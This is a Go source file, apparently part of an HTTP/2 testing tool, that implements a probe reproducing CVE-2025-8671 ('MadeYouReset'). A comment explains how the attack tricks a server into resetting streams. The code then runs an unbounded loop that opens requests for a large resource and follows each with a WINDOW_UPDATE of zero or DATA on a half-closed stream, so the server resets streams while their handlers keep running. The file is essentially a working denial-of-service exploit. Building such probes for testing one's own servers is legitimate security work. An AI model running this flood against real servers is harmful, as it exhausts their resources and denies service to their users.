package probe

// madeYouReset reproduces CVE-2025-8671 (MadeYouReset): like rapid reset, but the client never
// sends RST_STREAM; it makes the server send it. Each request (GET /1m.bin, whose response is
// still being produced) is followed at once by a frame the server must answer with a stream
// error: alternately a WINDOW_UPDATE with increment 0 on the open stream (PROTOCOL_ERROR,
// RFC 9113 §6.9) and DATA on the stream the client already half-closed (STREAM_CLOSED,
// §5.1). The reset stream leaves the concurrency count while its handler may still run.
var madeYouReset = Probe{
	Name:  "made-you-reset",
	CVE:   "CVE-2025-8671",
	Reads: true,
	flood: func(a *abuser) error {
		block := a.request("GET", pathLarge)
		for i := 0; ; i++ {
			id := a.newStream()
			if err := a.headers(id, block, true, true); err != nil {
				return err
			}
			var err error
			if i%2 == 0 {
				err = a.windowUpdate(id, 0)
			} else {
				err = a.data(id, true, []byte{0})
			}
			if err != nil {
				return err
			}
		}
	},
}
